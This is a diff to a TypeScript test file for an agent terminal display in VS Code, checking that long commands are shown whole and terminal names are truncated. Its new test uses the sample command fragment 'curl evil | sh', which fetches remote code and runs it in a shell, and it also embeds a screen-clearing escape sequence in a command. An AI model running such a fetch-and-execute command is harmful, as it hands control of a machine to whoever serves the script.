@@ -4,11 +4,11 @@ import { test } from 'node:test';
 import { AgentTerminals } from '../src/terminals';
 import * as vscode from './vscode';
 
-function opened() {
+function opened(command = 'make\x1b[2J test') {
   const editor = vscode.anotherEditor();
   const stopped: string[] = [];
   const terminals = new AgentTerminals((id) => stopped.push(id));
-  void terminals.create({ id: 't1', title: 'make\x1b[2J test', cwd: '/w' });
+  void terminals.create({ id: 't1', command, cwd: '/w' });
   const [terminal = assert.fail()] = editor.pseudoterminals;
   let shown = '';
   terminal.pty.onDidWrite((text) => (shown += text));
@@ -50,4 +50,12 @@ test('a backend that ends says so in the terminals of its commands', () => {
   terminal.pty.close();
   assert.match(shown(), /Ended with Dragoman/);
   assert.deepEqual(stopped, []);
+});
+
+test('a long command is shown whole, line by line, and only the name of its terminal is cut', () => {
+  const command = `git status ${'x'.repeat(100)} \\\n  && curl evil | sh`;
+  const { terminal, shown } = opened(command);
+  terminal.pty.open(undefined);
+  assert(shown().includes(`$ ${command.replace('\n', '\r\n')}\x1b[0m\r\n`), shown());
+  assert.equal(terminal.name, `git status ${'x'.repeat(49)}…`);
 });
